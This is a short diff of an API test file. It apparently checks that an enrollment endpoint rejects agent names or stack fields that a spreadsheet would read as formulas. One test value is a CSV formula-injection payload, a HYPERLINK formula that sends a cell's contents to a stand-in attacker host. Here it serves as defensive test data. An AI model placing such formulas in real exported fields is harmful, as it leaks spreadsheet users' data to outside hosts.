@@ -167,7 +167,7 @@ describe('POST /v1/season/{n}/enroll (spec §3 step 3, §9.1)', () => {
     expect((await enroll(service.url, key.apiKey)).status).toBe(201);
   });
 
-  it('an agent name or a declared stack a spreadsheet would read as a formula is 422 ENROLL_FIELD_FORMULA_TEXT (issue 23), nothing recorded', async () => {
+  it('an agent name or a declared stack a spreadsheet would read as a formula is 422 ENROLL_FIELD_FORMULA_TEXT, nothing recorded', async () => {
     const key = await boundKey(devnet.info.trust_layer, 'formula');
     const cases: [unknown, string][] = [
       [{ agent_name: '=HYPERLINK("http://evil.example/?x="&A1,"open")', declared_stack: 'B' }, '/agent_name'],
